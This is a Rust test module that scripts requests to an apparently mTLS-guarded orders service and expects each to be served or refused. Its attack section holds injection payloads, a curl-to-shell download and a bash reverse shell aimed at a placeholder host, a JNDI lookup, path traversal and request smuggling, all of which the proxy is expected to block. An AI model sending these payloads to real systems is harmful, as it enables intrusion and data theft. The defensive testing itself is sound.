//! What the callers send, and what is expected to become of it. The table is the demonstration; the rest only runs it.

/// Who calls.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Who {
    /// `ns/shop/sa/frontend`.
    Frontend,
    /// `ns/shop/sa/reports`.
    Reports,
    /// Nobody: no certificate.
    Nobody,
    /// `ns/shop/sa/frontend`, but by another authority.
    Impostor,
}

impl Who {
    /// As the table calls them.
    pub(super) fn name(self) -> &'static str {
        match self {
            Self::Frontend => "shop/frontend",
            Self::Reports => "shop/reports",
            Self::Nobody => "no certificate",
            Self::Impostor => "forged certificate",
        }
    }
}

/// What is expected.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Expected {
    /// The service answers.
    Served,
    /// Refused with this status and, in the record, a reason that begins like this.
    Refused(u16, &'static str),
    /// No TLS connection; the record's reason begins like this.
    NoHandshake(&'static str),
}

/// One request.
pub(super) struct Step {
    pub(super) who: Who,
    /// What the table says of it.
    pub(super) what: &'static str,
    pub(super) bytes: Vec<u8>,
    pub(super) expected: Expected,
}

use Expected::{NoHandshake, Refused, Served};
use Who::{Frontend, Impostor, Nobody, Reports};

/// The whole demonstration, in order.
pub(super) fn script() -> Vec<Step> {
    let mut steps = served();
    steps.extend(outside_the_allowlist());
    steps.extend(attacks());
    steps.extend(malformed());
    steps
}

fn served() -> Vec<Step> {
    vec![
        get(Frontend, "GET /orders/17", "/orders/17", Served),
        get(Frontend, "GET /orders?status=open", "/orders?status=open&limit=20", Served),
        get(Frontend, "GET /search, a name with an apostrophe", "/search?q=Conan%20O%27Brien%20%26%20Sons", Served),
        post(
            Frontend,
            "POST /orders, JSON",
            "/orders",
            JSON,
            r#"{"item":"tea; black","note":"select the best","qty":2}"#,
            Served,
        ),
        post(Frontend, "POST /import, XML", "/import", XML, "<order><item>tea &amp; cake</item></order>", Served),
        get(Reports, "GET /reports/daily", "/reports/daily", Served),
    ]
}

fn outside_the_allowlist() -> Vec<Step> {
    vec![
        get(Nobody, "GET /orders/17", "/orders/17", NoHandshake("tls-")),
        get(Impostor, "GET /orders/17", "/orders/17", NoHandshake("tls-")),
        get(Reports, "GET /orders/17: wrong identity", "/orders/17", Refused(403, "policy-no-rule")),
        get(Frontend, "GET /admin/users: path not granted", "/admin/users", Refused(403, "policy-")),
        raw(
            Frontend,
            "DELETE /orders/17: method not granted",
            "DELETE /orders/17 HTTP/1.1\r\nhost: orders\r\n\r\n",
            Refused(403, "policy-no-rule"),
        ),
    ]
}

fn attacks() -> Vec<Step> {
    const ATTACK: Expected = Refused(403, "attack-");
    vec![
        get(
            Frontend,
            "SQL injection in a query",
            "/search?q=tea%27%20UNION%20SELECT%20card,cvv%20FROM%20payments--",
            ATTACK,
        ),
        post(
            Frontend,
            "SQL injection in JSON",
            "/orders",
            JSON,
            r#"{"item":"x' OR 1=1; DROP TABLE orders; --","qty":1}"#,
            ATTACK,
        ),
        post(
            Frontend,
            "shell command in XML",
            "/import",
            XML,
            "<order><item>tea; curl http://198.51.100.7/x.sh | sh</item></order>",
            ATTACK,
        ),
        post(
            Frontend,
            "reverse shell in JSON",
            "/orders",
            JSON,
            r#"{"item":"$(bash -i >& /dev/tcp/198.51.100.7/4444 0>&1)"}"#,
            ATTACK,
        ),
        get(Frontend, "path traversal", "/files/%2e%2e/%2e%2e/etc/passwd", Refused(403, "")),
        raw(
            Frontend,
            "JNDI lookup in a header",
            "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nuser-agent: ${jndi:ldap://198.51.100.7/a}\r\n\r\n",
            ATTACK,
        ),
    ]
}

fn malformed() -> Vec<Step> {
    const SMUGGLED: &str = "POST /orders HTTP/1.1\r\nhost: orders\r\ncontent-length: 4\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /admin/users HTTP/1.1\r\nhost: orders\r\n\r\n";
    let oversized = format!("GET /orders/17 HTTP/1.1\r\nhost: orders\r\nx-filler: {}\r\n\r\n", "a".repeat(70_000));
    let large = "x".repeat(300 * 1024);
    vec![
        raw(Frontend, "request smuggling: two lengths", SMUGGLED, Refused(400, "http1-")),
        raw(Frontend, "a bare line feed", "GET /orders/17 HTTP/1.1\nhost: orders\r\n\r\n", Refused(400, "http1-")),
        raw(
            Frontend,
            "two Host headers",
            "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nhost: admin\r\n\r\n",
            Refused(400, "http1-"),
        ),
        raw(
            Frontend,
            "a forged identity header",
            "GET /orders/17 HTTP/1.1\r\nhost: orders\r\nX_Forwarded_Client_Cert: URI=spiffe://cluster.test/ns/shop/sa/root\r\n\r\n",
            Refused(400, "http1-"),
        ),
        raw(Frontend, "an oversized head", &oversized, Refused(431, "http1-")),
        post(Frontend, "a body too large to inspect", "/orders", JSON, &large, Refused(413, "limit-")),
    ]
}

const JSON: &str = "application/json";
const XML: &str = "application/xml";

fn get(who: Who, what: &'static str, target: &str, expected: Expected) -> Step {
    raw(who, what, &format!("GET {target} HTTP/1.1\r\nhost: orders\r\naccept: */*\r\n\r\n"), expected)
}

fn post(who: Who, what: &'static str, target: &str, kind: &str, body: &str, expected: Expected) -> Step {
    let length = body.len();
    let head =
        format!("POST {target} HTTP/1.1\r\nhost: orders\r\ncontent-type: {kind}\r\ncontent-length: {length}\r\n\r\n");
    raw(who, what, &(head + body), expected)
}

fn raw(who: Who, what: &'static str, bytes: &str, expected: Expected) -> Step {
    Step { who, what, bytes: bytes.as_bytes().to_vec(), expected }
}
